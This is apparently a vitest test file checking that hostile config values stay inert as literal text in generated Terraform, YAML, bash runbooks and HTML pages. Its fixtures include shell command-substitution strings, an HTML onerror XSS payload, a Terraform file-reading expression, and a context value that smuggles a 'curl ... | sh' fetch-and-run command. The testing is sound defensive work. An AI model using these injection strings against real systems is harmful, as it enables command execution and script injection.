/**
 * Config values written to break out, through every language they reach: Terraform expressions
 * (`${...}`, `%{...}`), shell (`$(...)`, backticks, quotes, `;`), Markdown and HTML (`<img onerror>`),
 * Mermaid, YAML. They must stay inert text: the plan shows them literally, bash reads every command as
 * one word per value, the browser runs nothing, the YAML parses back to what was given.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync } from "node:fs";
import { pathToFileURL } from "node:url";
import type { Page } from "playwright-core";
import { CHROMIUM_PATH, openChromium } from "../support/browser";
import { parseAllDocuments } from "yaml";
import { beforeAll, describe, expect, test } from "vitest";
import { synthConfig, type Synthesized } from "../support/synth";
import { planStackOffline, type PlanResult } from "../support/terraform";
import { bashSyntaxErrors, codeBlocks } from "../support/markdown";
import { filesUnder } from "../support/files";

const AWS_STACK = "devops-weeks-dev";
const K8S_STACK = "devops-weeks-dev-k8s";
const TERRAFORM = '${file("/etc/hostname")}';
const DIRECTIVE = "%{ for x in [1] }x%{ endfor }";
const SHELL = "$(id) `id` \"q\" 's' ; echo pwned";
const HTML = '<img src=x onerror="document.title=\'pwned\'">';
/** A branch git accepts that carries HTML onto week 3's page (git refuses spaces, so the tag has none). */
const BRANCH = "feature/${path.cwd}/<img/src=x/onerror=document.title='pwned'>";

/** An unescaped Terraform interpolation or directive of ours anywhere in a stack's JSON. */
const LIVE_EXPRESSION = /(?<!\$)\$\{(file|timestamp|path)\b|(?<!%)%\{ for /;

describe("hostile values in the AWS stack stay literal through a real plan", () => {
  let synth: Synthesized;
  let plan: PlanResult;

  beforeAll(() => {
    synth = synthConfig(
      {
        tags: { Owner: TERRAFORM, Loop: DIRECTIVE, Shell: SHELL, Page: HTML },
        network: { bastion: { keyPairName: TERRAFORM, sshIngressCidrs: ["203.0.113.10/32"] } },
        cicd: { source: { provider: "github", repository: "octocat/hello-docker", branch: BRANCH }, githubActions: { enabled: true } },
        logging: { errorAlarm: { pattern: `?ERROR ${TERRAFORM}` } },
        costGuard: { emails: ["learner@example.com"] },
      },
      { weeks: "1-8" },
    );
    plan = planStackOffline(synth.stackDir(AWS_STACK));
  }, 300_000);

  test("no expression of the config's is live in the synthesized JSON", () => {
    for (const stack of [AWS_STACK, K8S_STACK]) expect(readFileSync(join(synth.stackDir(stack), "cdk.tf.json"), "utf8")).not.toMatch(LIVE_EXPRESSION);
  });

  test("every page of weeks 1-8, in both languages, runs no injected script in Chromium and draws its diagrams", async () => {
    const pages = ["ko", "en"].flatMap((lang) => readdirSync(join(synth.outdir, "runbooks", lang)).filter((f) => /^week-0[1-8]\.html$/.test(f)).map((f) => join(synth.outdir, "runbooks", lang, f)));
    expect(pages).toHaveLength(16);
    // The branch reaches week 3's page: the check has something to find.
    for (const lang of ["ko", "en"]) expect(readFileSync(join(synth.outdir, "runbooks", lang, "week-03.html"), "utf8")).toContain("onerror=document.title=");
    await expectInertInBrowser(pages);
  }, 120_000);

  test("the plan shows every value as written", () => {
    const vpc = plan.byType("aws_vpc")[0].values as { tags_all: Record<string, string> };
    expect(vpc.tags_all).toMatchObject({ Owner: TERRAFORM, Loop: DIRECTIVE, Shell: SHELL, Page: HTML });
    const bastion = plan.byType("aws_instance").find((i) => (i.values.tags as Record<string, string>).Name === "devops-weeks-dev-bastion")!;
    expect(bastion.values.key_name).toBe(TERRAFORM);
    const filters = plan.byType("aws_cloudwatch_log_metric_filter").map((f) => f.values.pattern);
    expect(filters).toContain(`?ERROR ${TERRAFORM}`);
    // The pipeline's source configuration and the GitHub role's trust policy are known only at apply (they
    // hold ARNs); the role's description, known now, names the branch as written.
    const role = plan.byType("aws_iam_role").find((r) => String(r.values.name).endsWith("-github-actions"))!;
    expect(role.values.description).toBe(`Assumed by GitHub Actions in octocat/hello-docker on ${BRANCH} only`);
    // The workflow is YAML from a serializer: the branch parses back as written.
    const workflow = parseAllDocuments(readFileSync(join(synth.outdir, "cicd", AWS_STACK, ".github", "workflows", "deploy.yml"), "utf8"))[0].toJS() as { on: { push: { branches: string[] } } };
    expect(workflow.on.push.branches).toEqual([BRANCH]);
    const nodes = plan.byType("aws_launch_template").find((t) => String(t.values.name).endsWith("-eks-nodes"))!;
    expect((nodes.values.tag_specifications as { tags: Record<string, string> }[])[0].tags.Owner).toBe(TERRAFORM);
  });
});

/** Opens each page in headless Chromium (offline, a fresh profile): no injected script ran, every diagram drew. */
async function expectInertInBrowser(pages: readonly string[], alsoCheck: (page: Page, file: string) => Promise<void> = async () => {}): Promise<void> {
  expect(existsSync(CHROMIUM_PATH), `Chromium at ${CHROMIUM_PATH} (apt-get install chromium)`).toBe(true);
  const browser = await openChromium();
  try {
    const page = browser.page;
    for (const file of pages) {
      await page.goto(pathToFileURL(file).href);
      await page.waitForFunction(() => [...document.querySelectorAll("pre.mermaid")].every((pre) => pre.querySelector("svg")), undefined, { timeout: 20_000 });
      expect(await page.title(), file).not.toBe("pwned");
      expect(await page.locator("img[onerror]").count(), file).toBe(0);
      await alsoCheck(page, file);
    }
  } finally {
    await browser.close();
  }
}

describe("hostile values in the Kubernetes stack, the manifests, the runbooks and the browser", () => {
  let synth: Synthesized;
  const context = `kind-x; curl http://198.51.100.1/x | sh ${HTML}`;
  const message = `Built \${timestamp()} ${HTML} ${SHELL}`;

  beforeAll(() => {
    synth = synthConfig({ kubernetes: { kubeconfig: { context }, app: { message } } }, { weeks: "5" });
  }, 120_000);

  test("the -k8s stack holds the page and the context as text, not expressions", () => {
    const json = readFileSync(join(synth.stackDir(K8S_STACK), "cdk.tf.json"), "utf8");
    expect(json).not.toMatch(LIVE_EXPRESSION);
    const stack = JSON.parse(json) as { provider: { kubernetes: { config_context: string }[] }; resource: Record<string, Record<string, { data?: Record<string, string> }>> };
    expect(stack.provider.kubernetes[0].config_context).toBe(context);
    const page = Object.values(stack.resource.kubernetes_config_map_v1)[0].data!["index.html"];
    expect(page).toContain("Built $${timestamp()}");
    expect(page).toContain("&lt;img");
  });

  test("each generated YAML file parses back to the values given", () => {
    const yamlFiles = [...filesUnder(synth.outdir).keys()].filter((f) => /\.ya?ml$/.test(f));
    expect(yamlFiles.length).toBeGreaterThan(0);
    for (const file of yamlFiles) {
      const documents = parseAllDocuments(readFileSync(join(synth.outdir, file), "utf8"));
      for (const document of documents) expect(document.errors, file).toEqual([]);
    }
    const configMap = parseAllDocuments(readFileSync(join(synth.outdir, "manifests", AWS_STACK, "10-web-configmap.yaml"), "utf8"))[0].toJS() as { data: Record<string, string> };
    expect(configMap.data["index.html"]).toContain(`Built \${timestamp()} &lt;img src=x onerror="document.title='pwned'"&gt; $(id)`);
  });

  test("bash reads every command of the runbooks, and the context is one quoted word", () => {
    const pages = [...filesUnder(join(synth.outdir, "runbooks")).keys()].filter((f) => f.endsWith(".md"));
    const blocks = pages.flatMap((f: string) => codeBlocks(readFileSync(join(synth.outdir, "runbooks", f), "utf8")));
    expect(bashSyntaxErrors(blocks)).toEqual([]);
    const useContext = blocks.find((b) => b.startsWith("kubectl config use-context "))!;
    // `set --` then the command's words: exactly one argument after use-context, the context itself.
    const words = execFileSync("bash", ["-c", `set -- ${useContext.slice("kubectl config use-context ".length)}; printf '%s\\n' "$#" "$1"`], { encoding: "utf8" }).split("\n");
    expect(words[0]).toBe("1");
    expect(words[1]).toBe(context);
  });

  test("Chromium runs no injected script, and the pages allow only their own scripts", async () => {
    const pages = ["ko", "en"].map((lang) => join(synth.outdir, "runbooks", lang, "week-05.html"));
    for (const file of pages) {
      const html = readFileSync(file, "utf8");
      expect(html).toContain("Content-Security-Policy");
      expect(html).not.toMatch(/<script>(?!<\/script>)/);
    }
    // The context is on the page as text.
    await expectInertInBrowser(pages, async (page) => expect(await page.locator("main").innerText()).toContain("kind-x; curl"));
  }, 60_000);
});

describe("an S3 object key with the characters S3 and the schema allow", () => {
  test("source/app(1).zip: every command of week 3's pages is valid bash, and the key reaches them as one quoted word", () => {
    const objectKey = "source/it's-app(1)*!.zip";
    const synth = synthConfig({ cicd: { source: { objectKey } }, costGuard: { emails: ["l@example.com"] } }, { weeks: "3" });
    for (const lang of ["en", "ko"]) {
      const page = readFileSync(join(synth.outdir, "runbooks", lang, "week-03.md"), "utf8");
      const blocks = codeBlocks(page);
      expect(bashSyntaxErrors(blocks)).toEqual([]);
      const upload = blocks.find((block) => block.includes("aws s3 cp /tmp/app.zip"));
      expect(upload, lang).toBeDefined();
      // bash reads the destination back as the exact key.
      const destination = upload!.slice(upload!.indexOf("aws s3 cp /tmp/app.zip ") + "aws s3 cp /tmp/app.zip ".length).split(" --region")[0];
      expect(execFileSync("bash", ["-c", `printf %s ${destination}`], { encoding: "utf8" })).toMatch(new RegExp(`^s3://[^/]+/${objectKey.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}$`));
    }
  });
});
